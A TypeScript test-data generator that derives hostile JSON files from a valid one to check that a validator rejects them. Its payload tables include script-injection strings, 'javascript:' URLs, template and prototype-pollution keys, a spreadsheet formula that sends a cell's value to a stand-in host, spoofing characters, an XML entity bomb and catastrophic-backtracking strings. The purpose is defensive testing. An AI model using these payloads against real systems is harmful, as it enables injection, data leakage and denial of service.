/** Derives hostile files from a valid one, by families. */
import { times } from './tally.ts';

export interface Hostile {
  family: string;
  text: string;
  /** The word of the file that the message must name; absent when the whole file is wrong. */
  place?: string | undefined;
}

type Path = (string | number)[];
interface Leaf {
  path: Path;
  value: unknown;
}

/** The largest size is ten of these in the long form, and two in the short one. */
const MIB = 2 ** 20;
const most = times(2, 10);
/** A placeholder in the value, which is replaced by raw text. */
const HOLE = '§trou§';

export function placesIn(value: unknown, path: Path = []): Leaf[] {
  if (typeof value !== 'object' || value === null) return [{ path, value }];
  const inner = Object.entries(value).flatMap(([key, one]) =>
    placesIn(one, [...path, Array.isArray(value) ? Number(key) : key]),
  );
  return [{ path, value }, ...inner];
}

export function withAt(value: unknown, [key, ...rest]: Path, next: unknown): unknown {
  if (key === undefined) return next;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  copy[key] = withAt(copy[key], rest, next);
  return copy;
}

const isObject = (value: unknown): value is object =>
  typeof value === 'object' && value !== null && !Array.isArray(value);
const nameOf = (path: Path): string | undefined => path.findLast((key): key is string => typeof key === 'string');

/** Refused wherever text is expected. */
const words: [family: string, text: string][] = [
  ['balise', '<img src=x onerror=globalThis.owned=1>'],
  ['balise', '<script>globalThis.owned=1</script>'],
  ['sens inversé', 'Valider \u202Egro.live\u202C'],
  ['sens inversé', '\u2067Valider\u2069'],
  ['signes invisibles', 'Vali\u200Bder'],
  ['signes de commande', 'Valider\u0000'],
  ['signes de commande', '\u001B[2J\u001B[1;31mTout est effacé'],
  ['signes de commande', 'Valider\u2028globalThis.owned=1'],
  ['demi-caractère', 'Valider\uD800'],
];
/** Refused wherever the text is not a person's own (the title of a workshop is one). */
const codes: [family: string, text: string][] = [
  ['javascript:', 'javascript:globalThis.owned=1'],
  ['javascript:', 'JavaScript:alert(document.domain)'],
  ['data:', 'data:text/html;base64,PHNjcmlwdD4='],
  ['gabarit', `\${globalThis.owned=1}`],
  ['gabarit', '{{constructor.constructor("globalThis.owned=1")()}}'],
  ['formule de tableur', '=HYPERLINK("https://mal.example/"&A1)'],
  ['hôte ressemblant', 'https://wwwd.c\u0430f.fr/'],
  ['lettres ressemblantes', 'V\u0430lider'],
  ['prototype', '__proto__'],
  ['numéro', '2 85 07 75 116 004 12'],
  ['adresse', 'nadia.benali@mail.example'],
];
const numbers: [family: string, raw: string][] = [
  ['nombre infini', '1e999'],
  ['nombre infini', '-1e999'],
  ['nombre négatif', '-3'],
  ['nombre à virgule', '1.5'],
  ['nombre énorme', '9007199254740993'],
  ['nombre énorme', '4294967296'],
];
const wrong: [family: string, raw: string][] = [
  ['mauvais type', 'null'],
  ['mauvais type', '{}'],
  ['mauvais type', '[[]]'],
  ['mauvais type', 'true'],
  ['mauvais type', '-7'],
  ['mauvais type', '"§"'],
];
const extras: [key: string, raw: string][] = [
  ['__proto__', '{"owned": 1}'],
  ['constructor', '{"prototype": {"owned": 1}}'],
  ['toString', '1'],
  ['onload', '"globalThis.owned=1"'],
];

const broken = (good: string): string[] => [
  ...[
    '',
    ' ',
    'null',
    '0',
    'NaN',
    '[]',
    '{}',
    '"texte"',
    'undefined',
    '{"a":01}',
    '{a:1}',
    "{'a':1}",
    '{"a":1,}',
    '// rien\n{}',
    '\u0000',
  ],
  '<!doctype html><script>globalThis.owned=1</script>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
  '!!js/function "globalThis.owned=1"',
  'PK\u0003\u0004\u0014\u0000',
  `\u001F\u008B${good}`,
  good.slice(0, good.length >> 1),
  good.slice(1),
  `${good}${good}`,
  `)]}'\n${good}`,
  `globalThis.owned=1;${good}`,
  [...good].join('\u0000'),
];

const huge = (good: unknown, path: Path, key: string): string[] => {
  const at = (raw: string) => JSON.stringify(withAt(good, path, HOLE)).replace(`"${HOLE}"`, () => raw);
  return [
    at(`"${'a'.repeat(most * MIB)}"`),
    at('1'.repeat(most * MIB)),
    at(`{"${key.repeat(MIB)}": 1}`),
    at(`${'['.repeat(MIB)}${']'.repeat(MIB)}`),
    at(`${'{"a":'.repeat(MIB)}1${'}'.repeat(MIB)}`),
    at(`[${'{},'.repeat(MIB)}{}]`),
    '['.repeat(most * MIB),
    '{"a":'.repeat(MIB),
    '"'.repeat(most * MIB),
    `"${'\\u202e'.repeat(MIB)}`,
  ];
};

/** Strings that cause backtracking in a careless regular expression. */
const slow = ['a', ' ', '1 ', '*', 'a-', '\u00a0', 'a/', 'é'].map((piece) => `${piece.repeat(150_000)}\u0001`);

export function hostileTo(text: string): Hostile[] {
  const good: unknown = JSON.parse(text);
  const places = placesIn(good);
  const leaves = places.filter(({ value }) => typeof value !== 'object' || value === null);
  const raw = (path: Path, written: string) =>
    JSON.stringify(withAt(good, path, HOLE)).replace(`"${HOLE}"`, () => written);
  const files: Hostile[] = [];
  const add = (family: string, path: Path, written: string) =>
    files.push({ family, text: raw(path, written), place: nameOf(path) });

  for (const { path, value } of leaves) {
    const isFree = nameOf(path) === 'title';
    for (const [family, one] of wrong) {
      const isRight =
        one === JSON.stringify(value) || (one === 'null' && nameOf(path) === 'under') || (one === '"§"' && isFree);
      if (!isRight) add(family, path, one);
    }
    if (typeof value === 'string')
      for (const [family, one] of [...words, ...(isFree ? [] : codes)]) add(family, path, JSON.stringify(one));
    if (typeof value === 'number') for (const [family, one] of numbers) add(family, path, one);
    if (typeof value === 'string') for (const one of slow) add('motif lent', path, JSON.stringify(one));
    const key = path.at(-1);
    if (typeof key !== 'string') continue;
    const missing = withAt(good, path, undefined);
    files.push({ family: 'il manque un mot', text: JSON.stringify(missing), place: key });
    const twice = `${JSON.stringify(value)}, ${JSON.stringify(key)}: ${JSON.stringify(value)}`;
    files.push({ family: 'un mot deux fois', text: raw(path, twice) });
  }
  for (const { path, value } of places) {
    if (!isObject(value)) continue;
    for (const [key, one] of extras) {
      const more = `{${JSON.stringify(key)}: ${one}, ${JSON.stringify(value).slice(1)}`;
      files.push({ family: key === 'onload' ? 'un mot de trop' : 'prototype', text: raw(path, more), place: key });
    }
  }
  for (const one of broken(text)) files.push({ family: 'autre chose', text: one });
  const deep = leaves.find(({ path }) => path.length > 1) ?? leaves[0];
  for (const one of huge(good, deep?.path ?? [], 'clé')) files.push({ family: 'énorme, ou très profond', text: one });
  return files;
}
